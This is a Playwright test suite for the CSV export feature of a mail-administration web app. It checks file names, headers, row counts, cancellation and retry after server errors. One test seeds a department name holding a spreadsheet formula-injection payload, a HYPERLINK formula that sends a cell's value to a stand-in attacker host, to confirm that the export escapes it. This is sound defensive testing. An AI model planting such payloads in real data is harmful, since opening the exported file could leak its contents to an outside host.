import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import papaparse from 'papaparse'
import { registry } from '../../src/registry.ts'
import { expect, signIn, story as test } from '../helpers/fixture.ts'
import { expectAccessible, follow, internalError, openView, panel, press } from '../helpers/utils.ts'

const openExport = async (page: Page) => {
  await openView(page)
  await page.getByRole('button', { name: 'Export as CSV' }).click()
  await expect(panel(page).getByRole('heading', { name: 'Export as CSV' })).toBeVisible()
}

/** Returns the name, the text and the rows of the file that a click saves. */
const saveBy = async (page: Page, click: () => Promise<void>) => {
  const saved = page.waitForEvent('download')
  await click()
  const download = await saved
  const text = await readFile(await download.path(), 'utf8')
  const { data } = papaparse.parse(text.replace(/^\uFEFF/, '').replace(/\r\n$/, ''), {
    delimiter: ',',
    newline: '\r\n',
  })
  return { name: download.suggestedFilename(), text, rows: data }
}

/** The same for a button of the panel. */
const save = (page: Page, button: string) => saveBy(page, () => press(page, button))

test('all rows of a list are exported with its search, filters, order and visible columns @core', async ({
  page,
  organization,
}) => {
  await organization.seed({ departments: 4, identities: 260 })
  await signIn(page, organization.ownerKey, 'identities?sort=-address')
  await openExport(page)
  const whole = await save(page, 'Export 260 rows')
  await expect(panel(page).getByText('Exported 260 rows.')).toBeVisible()
  expect(whole.name).toMatch(/^identities-\d{4}-\d\d-\d\d\.csv$/)
  expect(whole.text.startsWith('\uFEFFName,Status,Address,Department,')).toBe(true)
  expect(whole.text.endsWith('\r\n')).toBe(true)
  expect(whole.rows).toHaveLength(261)
  const addresses = whole.rows.slice(1).map((row) => row[2])
  const first = await organization.api<{
    items: { address_unicode: string; mailbox: { limit_bytes: number } }[]
  }>('GET', '/identity/list?sort=-address&limit=200')
  expect(addresses.slice(0, 200)).toEqual(first.items.map((item) => item.address_unicode))
  expect(whole.rows[1]?.[4]).toBe(String(first.items[0]?.mailbox.limit_bytes))

  await press(page, 'Done')
  await page.goto(page.url().replace(/\?.*/, '?status=suspended'))
  await expect(page.getByText(/^1–\d+ of \d+$/)).toBeVisible()
  const total = Number(/of (\d+)$/.exec(await page.getByText(/^1–\d+ of \d+$/).innerText())?.[1])
  await openView(page)
  await page.getByRole('checkbox', { name: 'Department' }).uncheck()
  await page.keyboard.press('Escape')
  await openExport(page)
  const some = await save(page, `Export ${total} rows`)
  expect(some.rows[0]).toEqual([
    'Name',
    'Status',
    'Address',
    'Mailbox size (bytes)',
    'Stored (bytes)',
    'Last sign-in',
    'External ID',
    'Aliases',
    'Groups',
  ])
  expect(some.rows).toHaveLength(total + 1)
  expect(new Set(some.rows.slice(1).map((row) => row[1]))).toEqual(new Set(['suspended']))
})

test('a name that looks like a formula is exported as text @core', async ({ page, organization }) => {
  const name = '=HYPERLINK("evil.example?"&A1,"Sales")'
  await organization.api('POST', '/department', { department_name: name })
  await organization.api('POST', '/department', { department_name: 'North; "East"' })
  await signIn(page, organization.ownerKey, 'departments')
  await openExport(page)
  const { rows } = await save(page, 'Export 2 rows')
  expect(rows.slice(1).map((row) => row[0])).toEqual(expect.arrayContaining([`'${name}`, 'North; "East"']))
})

test('an export can be canceled, and starts again after the API was unavailable', async ({
  page,
  organization,
  faults,
}) => {
  faults.expectFault(/answer: 500 .*\/api\/department\/export/)
  await organization.seed({ departments: 430, identities: 0 })
  await signIn(page, organization.ownerKey, 'departments')
  await openExport(page)
  const file = (url: URL) => url.pathname === '/api/department/export'
  // It is never answered.
  await page.route(file, () => undefined, { times: 1 })
  await press(page, 'Export 430 rows')
  await expect(panel(page).getByText('0 of 430 rows')).toBeVisible()
  await expect(panel(page).getByRole('progressbar', { name: 'Rows in the file' })).toHaveAttribute(
    'value',
    '0',
  )
  await expect(panel(page).getByRole('button', { name: 'Cancel' })).toBeFocused()
  await page.keyboard.press('Escape')
  await expect(panel(page).getByText('Export canceled. No file was saved.')).toBeVisible()
  await press(page, 'Done')
  await expect(panel(page)).toHaveCount(0)
  await expect(page.getByRole('button', { name: 'View', exact: true })).toBeFocused()

  await openExport(page)
  await page.route(file, (route) => route.fulfill(internalError), { times: 1 })
  await press(page, 'Export 430 rows')
  await expect(panel(page).getByText('Something went wrong on the server')).toBeVisible()
  const { rows } = await save(page, 'Start again')
  await expect(panel(page).getByText('Exported 430 rows.')).toBeVisible()
  expect(rows).toHaveLength(431)
  expect(new Set(rows.map((row) => row[0])).size).toBe(431)
})

test('Activity is exported as it was at one moment, and starts again after an error @phone', async ({
  page,
  organization,
  faults,
}) => {
  faults.expectFault(/answer: 500 .*\/api\/audit\/export/)
  const { department_id } = await organization.api<{ department_id: string }>('POST', '/department', {
    department_name: 'Before',
  })
  await organization.api('PATCH', `/department/${department_id}`, { department_name: 'After' })
  await signIn(page, organization.ownerKey, 'audit')
  await openExport(page)
  const file = (url: URL) => url.pathname === '/api/audit/export'
  await page.route(file, (route) => route.fulfill(internalError), { times: 1 })
  const button = panel(page).getByRole('button', { name: /^Export \d+ rows$/ })
  const count = (await button.innerText()).replace(/\D/g, '')
  await button.click()
  await expect(panel(page).getByText('Something went wrong on the server')).toBeVisible()
  const { rows } = await save(page, 'Start again')
  await expect(panel(page).getByText(`Exported ${count} rows.`)).toBeVisible()
  await expectAccessible(page)
  expect(rows).toHaveLength(Number(count) + 1)
  const [operation, type, name, , before, after] = rows.find(([one]) => one === 'updateDepartment') ?? []
  expect([operation, type, name]).toEqual(['updateDepartment', 'department', 'After'])
  expect([before, after]).toEqual([
    expect.stringContaining('"department_name":"Before"'),
    expect.stringContaining('"department_name":"After"'),
  ])
})

/** The header of each list's file, by the list's address; that of identities is tested above, and overview and health have none. */
const headers: Record<string, string> = {
  'mailbox-quotas': 'Name,Address,Stored (bytes),Mailbox size (bytes),Measured',
  addresses: 'Address,Kind,Name,Targets,State,Reserved until,Note,Expires',
  departments: 'Name,Identities,Used (bytes),Allocated (bytes)',
  domains: 'Domain,Primary,Status,DNS,DNS since,Identities,Allocated (bytes)',
  key: 'Name,Last characters,Status,Kind,Permissions,Last used,Expires',
  audit: 'Operation,Type,Name,ID,Before (JSON),After (JSON),Who,When',
  plans: 'Bulk change,Identities,State,Begins,Changed,Failed,Created by,Run by,Created',
}

test('the file of each page of the navigation is tried here', () => {
  const segments = registry.map(({ segment }) => segment)
  expect(segments.filter((segment) => !(segment in headers))).toEqual(['overview', 'identities', 'health'])
})

test('each list has its own file', async ({ page, organization }) => {
  await organization.seed({ departments: 2, identities: 5 })
  const { items } = await organization.api<{ items: { identity_id: string }[] }>('GET', '/identity/list')
  const { plan_id } = await organization.api<{ plan_id: string }>('POST', '/plan', {
    operation: 'suspend',
    selection: { identity_ids: items.map(({ identity_id }) => identity_id) },
  })
  await signIn(page, organization.ownerKey)
  const mayBeEmpty = [
    'Last used',
    'Expires',
    'Targets',
    'Reserved until',
    'Note',
    'Expires',
    'Before (JSON)',
    'After (JSON)',
    'Begins',
    'Run by',
    'Code',
  ]
  for (const [segment, header] of Object.entries({
    ...headers,
    [`plans/${plan_id}`]: 'Name,Address,Result,Before (JSON),After (JSON),Code',
  })) {
    await follow(page, `/o/${organization.id}/${segment}`)
    await openExport(page)
    const button = panel(page).getByRole('button', { name: /^Export [\d ]+ rows?$/ })
    const label = await button.innerText()
    const { text, rows } = await save(page, label)
    expect(text.slice(1, text.indexOf('\r\n')), segment).toBe(header)
    expect(rows.length - 1, segment).toBe(Number(label.replace(/\D/g, '')))
    const empty = header.split(',').filter((_, column) => rows.slice(1).every((row) => row[column] === ''))
    expect(mayBeEmpty, segment).toEqual(expect.arrayContaining(empty))
    for (const cells of rows) expect(cells, segment).toHaveLength(header.split(',').length)
    await press(page, 'Done')
  }
})

test('the file of mail sent by rules has all columns', async ({ page, organization }) => {
  await organization.seed({ departments: 1, identities: 1 })
  const { items } = await organization.api<{ items: object[] }>('GET', '/identity/list')
  const redirect = { to: 'ana@private.example', is_outside: true, by: 'own_rules', count: 12 }
  const times = { first_at: '2026-11-03T08:00:00.000Z', last_at: '2026-11-20T09:15:00.000Z' }
  // No mail server reports anything here: only the list has a row, so that there is something to export.
  await page.route('**/api/redirect/list?**', (route) =>
    route.fulfill({
      json: {
        items: [{ ...items[0], ...redirect, ...times }],
        since: null,
        unlisted_count: 0,
        total: 1,
        current_page: 1,
      },
    }),
  )
  await signIn(page, organization.ownerKey, 'identities/redirects')
  await openExport(page)
  const { name, text } = await save(page, 'Export 1 row')
  expect(name).toMatch(/^mail-sent-by-rules-\d{4}-\d\d-\d\d\.csv$/)
  expect(text.slice(1)).toBe('Name,Address,Sent to,Other mail system,Set by,Messages,First,Last\r\n')
})

test('the report of a bulk change has the change and the reason in words, and starts again after an error', async ({
  page,
  organization,
  faults,
}) => {
  faults.expectFault(/answer: 500 .*\/item\/export/)
  await organization.seed({ departments: 1, identities: 230 })
  const { items } = await organization.api<{ items: { identity_id: string; address: string }[] }>(
    'GET',
    '/identity/list?limit=1&status=active',
  )
  const gone = items[0]
  if (gone === undefined) throw new Error('No identity is active.')
  const { plan_id } = await organization.api<{ plan_id: string }>('POST', '/plan', {
    operation: 'suspend',
    selection: { filter: {} },
    change: { status_reason: '=1+1' },
  })
  await signIn(page, organization.ownerKey, `plans/${plan_id}`)
  const file = (url: URL) => url.pathname.endsWith('/item/export')
  await page.route(file, (route) => route.fulfill(internalError), { times: 1 })
  const button = page.getByRole('button', { name: 'Save report' })
  await button.click()
  await expect(page.getByText('Something went wrong on the server')).toBeVisible()
  const { name, rows } = await saveBy(page, () => button.click())
  expect(name).toBe(`suspend-${plan_id}.csv`)
  expect(rows[0]).toEqual(['Line', 'Address', 'Name', 'Result', 'Change', 'Code', 'Reason', 'Mail server'])
  expect(rows).toHaveLength(231)
  const [, address, , result, change] = rows.find((row) => row[1] === gone.address) ?? []
  expect([address, result, change]).toEqual([gone.address, 'Will change', 'Suspended. Reason: =1+1'])
})

test('a large list goes straight to the file that was chosen', async ({ page, organization }) => {
  await organization.seed({ departments: 3, identities: 400 })
  await signIn(page, organization.ownerKey)
  await page.evaluate(() => {
    // The file system of the page's own, which has the same files; a test can't click the browser's own dialog.
    Object.assign(window, {
      showSaveFilePicker: async ({ suggestedName }: { suggestedName: string }) =>
        (await navigator.storage.getDirectory()).getFileHandle(suggestedName, { create: true }),
    })
  })
  // As many as it takes, without making them: the list says so.
  await page.route('**/api/identity/list?**', async (route) => {
    const response = await route.fetch()
    const list = (await response.json()) as { total: number }
    const isFirst = new URL(route.request().url()).searchParams.get('limit') === '50'
    await route.fulfill({ response, json: isFirst ? { ...list, total: 25_000 } : list })
  })
  await page.getByRole('link', { name: 'Identities', exact: true }).first().click()
  await openExport(page)
  await panel(page)
    .getByRole('button', { name: /^Export 25.000 rows$/ })
    .click()
  await expect(panel(page).getByText('Exported 400 rows.')).toBeVisible()
  const lines = await page.evaluate(async () => {
    const folder = await navigator.storage.getDirectory()
    const handle = await folder.getFileHandle(`identities-${new Date().toLocaleDateString('sv')}.csv`)
    return (await (await handle.getFile()).text()).split('\r\n').length
  })
  expect(lines).toBe(402)
})
